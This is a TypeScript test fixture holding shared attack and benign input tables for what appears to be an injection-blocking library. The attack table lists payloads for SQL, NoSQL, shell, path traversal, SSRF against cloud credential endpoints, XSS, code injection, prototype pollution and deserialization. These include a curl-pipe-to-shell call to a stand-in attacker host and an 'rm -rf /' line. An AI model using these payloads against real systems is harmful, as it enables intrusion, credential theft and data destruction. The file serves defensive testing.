/**
 * The shared attack and benign tables every adapter test puts through every input source and trigger:
 * the same payloads must give the same verdict on every provider. Written for this project.
 */
import type { AttackClass } from '../../src/types';

export interface AttackVector {
  class: AttackClass;
  payload: string;
}

/** Obvious attacks of every class: each must be blocked wherever it appears. */
export const ATTACKS: readonly AttackVector[] = [
  { class: 'sqli', payload: "1' OR '1'='1" },
  { class: 'sqli', payload: "admin'--" },
  { class: 'sqli', payload: '42 UNION SELECT username, password FROM users' },
  { class: 'sqli', payload: "x'; DROP TABLE customers; --" },
  { class: 'nosqli', payload: '{"$ne": null}' },
  { class: 'nosqli', payload: '{"username": {"$gt": ""}}' },
  { class: 'shell', payload: 'report.pdf; cat /etc/passwd' },
  { class: 'shell', payload: '$(curl http://evil.example/x.sh | sh)' },
  { class: 'shell', payload: '`whoami`' },
  { class: 'shell', payload: 'a.txt && rm -rf /' },
  { class: 'path-traversal', payload: '../../../../etc/passwd' },
  { class: 'path-traversal', payload: '..\\..\\..\\windows\\win.ini' },
  { class: 'ssrf', payload: 'http://169.254.169.254/latest/meta-data/iam/security-credentials/' },
  { class: 'ssrf', payload: 'http://127.0.0.1:8080/admin' },
  { class: 'ssrf', payload: 'http://2130706433/' },
  { class: 'ssrf', payload: 'http://[::ffff:127.0.0.1]/' },
  { class: 'xss', payload: '<script>alert(document.cookie)</script>' },
  { class: 'xss', payload: '<img src=x onerror=alert(1)>' },
  { class: 'xss', payload: 'javascript:alert(1)' },
  { class: 'code-injection', payload: "require('child_process').execSync('id')" },
  { class: 'code-injection', payload: "process.mainModule.require('fs').readFileSync('/etc/passwd')" },
  { class: 'prototype-pollution', payload: '{"__proto__": {"isAdmin": true}}' },
  { class: 'prototype-pollution', payload: '{"constructor": {"prototype": {"isAdmin": true}}}' },
  { class: 'deserialization', payload: '{"rce":"_$$ND_FUNC$$_function(){require(\'child_process\').exec(\'id\')}()"}' },
  { class: 'deserialization', payload: '!!js/function "function(){ return process.env }"' },
];

/** Ordinary text that looks a little like an attack: none of it may be blocked. */
export const BENIGN: readonly string[] = [
  "O'Brien",
  "It's 5 o'clock somewhere",
  'Tom & Jerry',
  'salt; pepper',
  'a < b and c > d',
  'I <3 this product',
  'Please select your size',
  'Drop me a line; or call me on Monday',
  'Union Station, Washington',
  'Order by price, then by name',
  'docs/readme.md',
  'images/2024/summer-sale.png',
  'https://example.com/search?q=shoes&page=2',
  'https://www.wikipedia.org/wiki/Main_Page',
  'jane.doe@example.com',
  '+1 (555) 010-0000',
  '$5 & up',
  '50% off everything!',
  'rock & roll',
  'A | B testing',
  'He said "hello" and left.',
  '1 + 1 = 2',
  'version 1.2.3',
  '#summer #sale',
  'Ship to: 221B Baker Street, London',
  'cats && dogs',
  'See section 3.2 (page 14) for details.',
  'Müller & Söhne GmbH',
  '東京都渋谷区',
  'Meeting at 10:30 - bring notes',
];
